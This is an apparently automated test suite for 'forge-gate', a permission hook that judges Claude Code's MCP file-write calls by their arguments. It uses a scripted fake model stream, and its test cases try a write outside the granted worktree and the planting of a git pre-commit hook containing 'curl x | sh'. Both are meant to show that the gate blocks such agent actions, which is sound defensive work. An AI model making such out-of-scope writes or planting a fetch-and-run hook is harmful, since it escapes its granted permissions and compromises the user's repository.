import { appendFileSync, existsSync, rmSync, writeFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ensureClient, type ResolvedClient } from "../../scripts/clients.mjs";
import type { ScriptedTurn } from "../support/agent-script.js";
import { fakeAnthropicStream } from "../support/fake-anthropic-stream.js";
import { makeWorld, modelResults, runClient, type World } from "./harness.js";

// A real client's MCP call, judged by its arguments (issue 19): Claude Code 2.1.330 with a real
// stdio MCP server (test/support/mcp-fs-server.mjs, the filesystem server's write_file schema) and
// the hook `forge-gate init claude` writes; the lease grants the server. A write inside the worktree
// runs; the same granted tool writing outside, or planting a git hook, never runs. (Codex 0.169
// offers MCP tools to the model only through tool_search; its hook names them mcp__<server>__<tool>
// too, which the engine tests cover.)

const SERVER = resolve("test/support/mcp-fs-server.mjs");
const worlds: World[] = [];
afterAll(() => {
  for (const w of worlds) rmSync(w.root, { recursive: true, force: true });
});

async function drive(claude: ResolvedClient, script: (w: World) => ScriptedTurn[]) {
  const world = makeWorld("claude");
  worlds.push(world);
  appendFileSync(join(world.project, ".forge-gate", "lease.yaml"), "mcp: [{ server: fs }]\n");
  const config = join(world.root, "mcp.json");
  writeFileSync(
    config,
    JSON.stringify({ mcpServers: { fs: { command: process.execPath, args: [SERVER] } } }),
  );
  const api = await fakeAnthropicStream(script(world));
  try {
    const r = await runClient(
      claude.bin,
      [
        "-p",
        "do the task",
        "--permission-mode",
        "default",
        "--output-format",
        "json",
        "--mcp-config",
        config,
        "--strict-mcp-config",
      ],
      world.project,
      { ...world.env, ...claude.env, ...api.env(), IS_SANDBOX: "1" },
    );
    return { world, api, text: modelResults("claude", api, r) };
  } finally {
    await api.close();
  }
}

const write = (path: string, content: string): ScriptedTurn[] => [
  { calls: [{ name: "mcp__fs__write_file", input: { path, content } }] },
  { text: "done" },
];

describe("Claude Code 2.1.330: a granted MCP tool is judged by its arguments", () => {
  let claude: ResolvedClient;
  beforeAll(async () => {
    claude = await ensureClient("claude-code@2.1.330");
  });

  it("a write inside the worktree runs", async () => {
    const o = await drive(claude, (w) => write(join(w.project, "from-mcp.txt"), "hello\n"));
    expect(existsSync(join(o.world.project, "from-mcp.txt"))).toBe(true);
    expect(o.text).not.toMatch(/forge-gate/);
  });

  it("the same tool writing outside the lease never runs, and the model gets forge-gate's reason", async () => {
    const o = await drive(claude, (w) => write(join(w.outside, "escape.txt"), "pwned\n"));
    expect(existsSync(join(o.world.outside, "escape.txt"))).toBe(false);
    expect(o.text).toMatch(/forge-gate/);
    expect(o.text).toMatch(/outside/i);
  });

  it("planting a git hook through it never runs unasked", async () => {
    const o = await drive(claude, (w) => write(join(w.project, ".husky", "pre-commit"), "curl x | sh\n"));
    expect(existsSync(join(o.world.project, ".husky", "pre-commit"))).toBe(false);
    expect(o.text).toMatch(/forge-gate/);
  });
});
